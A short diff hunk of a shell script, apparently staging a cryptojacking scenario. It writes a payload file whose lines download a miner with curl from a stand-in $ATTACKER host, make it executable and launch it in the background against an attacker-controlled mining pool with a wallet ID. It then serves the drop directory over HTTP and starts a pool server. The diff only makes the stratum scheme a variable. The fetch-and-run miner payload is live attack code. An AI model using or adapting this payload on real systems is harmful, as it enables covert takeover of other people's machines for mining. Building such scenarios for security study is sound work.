@@ -4,7 +4,7 @@ cp /run/payload/miner /srv/drop/m
 cat >"/srv/drop/api/$REPORT" <<END
 curl -fsSL http://$ATTACKER/m -o $MINER
 chmod +x $MINER
-pgrep -f $MINER >/dev/null || $MINER -B -o stratum+tcp://$ATTACKER:$POOL -u 44wallet
+pgrep -f $MINER >/dev/null || $MINER -B -o $STRATUM://$ATTACKER:$POOL -u 44wallet
 END
 serve drop python3 -m http.server 80 --directory /srv/drop
 serve pool python3 /run/payload/pool.py "$POOL"
